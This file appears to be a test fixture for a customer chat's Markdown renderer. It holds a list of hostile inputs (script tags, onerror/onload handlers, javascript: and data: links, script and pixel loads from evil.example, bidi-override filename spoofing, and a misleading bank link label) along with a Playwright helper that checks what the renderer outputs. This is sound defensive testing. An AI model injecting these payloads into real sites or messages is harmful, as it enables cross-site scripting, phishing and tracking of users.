/** Texts that have broken chats elsewhere: as a customer, an agent or a vendor may send them. */
import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright-core'
import { build } from 'vite'

export interface Hostile {
  readonly what: string
  readonly text: string
}

export const hostile: readonly Hostile[] = [
  { what: 'a picture with a handler', text: '<img src=x onerror="alert(1)">' },
  { what: 'a script', text: '</p><script>alert(2)</script>' },
  { what: 'a script with a source', text: '"><script src="https://evil.example/x.js"></script>' },
  {
    what: 'a drawing with a handler',
    text: '<svg/onload=alert(3)><style>@import "https://evil.example/x.css"</style>',
  },
  { what: 'a frame', text: '<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>' },
  { what: 'a script address', text: 'javascript:alert(5)' },
  { what: 'a script in a named link', text: '[Click](javascript:alert(6)) [here](JaVaScRiPt:alert(7))' },
  { what: 'a page in a named link', text: '[Open](data:text/html,<script>alert(8)</script>)' },
  { what: 'a link that breaks out', text: 'https://shop.example.com/"onmouseover="alert(9)' },
  { what: 'a picture in Markdown', text: '![x](https://evil.example/pixel.png)' },
  { what: 'a text turned around', text: 'Invoice \u202Egnp.exe\u202C and \u2066more\u2069' },
  { what: 'a very long word', text: `W${'o'.repeat(2000)}w` },
  { what: 'stacked marks', text: `Z${'\u0335\u0336\u0337\u0338\u0311\u0312'.repeat(40)}` },
  { what: 'zero-width signs', text: 'a\u200B\u200C\u200D\u2060\uFEFFb' },
  { what: 'a template', text: '{{constructor.constructor("alert(10)")()}} ${alert(11)} %s %n' },
  { what: 'right-to-left', text: 'مرحبا، هل يمكنني إرجاع هذا؟' },
]

/** What the few marks of a bot must not be talked into. */
export const hostileMarks: readonly Hostile[] = [
  { what: 'a script in bold', text: '**<script>alert(13)</script>**' },
  { what: 'a script address', text: '[pay](javascript:alert(14)) **[pay](javascript:alert(15))**' },
  { what: 'a link that breaks out', text: '[pay](https://shop.example.com/"onclick="alert(16))' },
  { what: 'a label that names another site', text: '[https://bank.example](https://evil.example/login)' },
  { what: 'marks that never end', text: `${'**a'.repeat(500)}${'['.repeat(500)}` },
]

/** A file name that must neither leave its attribute nor its folder. */
export const hostileFileName = `"><img src=x onerror=alert(12)> and co.txt`

/** The elements and addresses that the customers' chat makes of a bot's text. */
export async function drawMarks(page: Page, text: string) {
  // As a string: the page's policy permits no script that is not the hub's own.
  await page.evaluate(await marksScript())
  return page.evaluate((said) => {
    const box = document.createElement('div')
    ;(window as unknown as { marks: { draw(text: string, box: Element): void } }).marks.draw(said, box)
    const all = [...box.querySelectorAll('*')]
    return {
      words: box.textContent ?? '',
      tags: [...new Set(all.map((one) => one.localName))].sort(),
      addresses: all.flatMap((one) => (one instanceof HTMLAnchorElement ? [one.href] : [])),
    }
  }, text)
}

let bundle: Promise<string> | undefined
/** The very functions that draw the chat, built as the chat is. */
const marksScript = (): Promise<string> => {
  bundle ??= build({
    configFile: false,
    logLevel: 'warn',
    build: {
      write: false,
      lib: { entry: fileURLToPath(new URL('marks.ts', import.meta.url)), formats: ['iife'], name: 'marks' },
    },
  }).then((made) => `${([made].flat()[0] as { output: { code: string }[] }).output[0]!.code}; window.marks = marks`)
  return bundle
}
